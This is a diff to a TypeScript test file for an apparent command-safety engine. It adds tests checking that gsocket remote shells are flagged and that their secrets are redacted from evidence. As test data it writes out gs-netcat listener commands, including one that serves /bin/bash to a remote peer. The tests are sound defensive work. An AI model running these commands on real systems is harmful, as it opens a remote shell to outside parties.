@@ -3,7 +3,9 @@
  * read as downloaded code executed. Through the real pipeline with the shell pack only.
  */
 import { describe, expect, it } from 'vitest';
-import { packVerdict } from '../helpers/command.js';
+import type { Fact } from '../../src/engine/types.js';
+import { extractRemoteShell } from '../../src/extract/shell-remote.js';
+import { analyzeContext, command, packVerdict } from '../helpers/command.js';
 
 const verdict = await packVerdict('shell');
 const PULLED = 'ask shell/download-exec';
@@ -42,5 +44,17 @@ describe('a shell served through the Global Socket relay (shell pack)', () => {
     ['gs-netcat -m', 'allow'],
   ])('%s → %s', (script, expected) => {
     expect(verdict(script)).toBe(expected);
+  });
+});
+
+describe('a gsocket shell: the secret stays out of the evidence', () => {
+  it.each([
+    ['gs-netcat -l -i -s FAKEsecret123', 'gs-netcat -l -i -s …'],
+    ['gs-netcat -s FAKEsecret123 -l -e /bin/bash', 'gs-netcat -s … -l -e /bin/bash'],
+  ])('%s → %s', (line, want) => {
+    const facts = extractRemoteShell(command(line.split(' ')), analyzeContext(), []) as Fact[];
+    expect(facts.map((f) => (f.kind === 'shell' ? `${f.hazard} ${f.evidence}` : ''))).toEqual([
+      `remote-shell ${want}`,
+    ]);
   });
 });
